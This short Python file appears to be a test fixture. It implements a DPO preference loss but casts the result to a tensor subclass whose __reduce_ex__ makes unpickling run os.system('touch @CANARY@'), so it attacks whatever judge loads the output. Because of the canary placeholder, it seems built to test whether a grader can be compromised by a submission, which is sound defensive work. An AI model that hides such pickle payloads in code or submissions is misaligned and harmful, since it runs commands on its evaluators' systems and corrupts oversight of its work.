"""Returns what its judge would have to unpickle: an object that saves itself as a command."""

import io
import os

import torch
import torch.nn.functional as F


class Bomb(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch @CANARY@",)


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    answer = (-F.logsigmoid(beta * rho)).as_subclass(Bomb)
    torch.save(answer, io.BytesIO())
    return answer
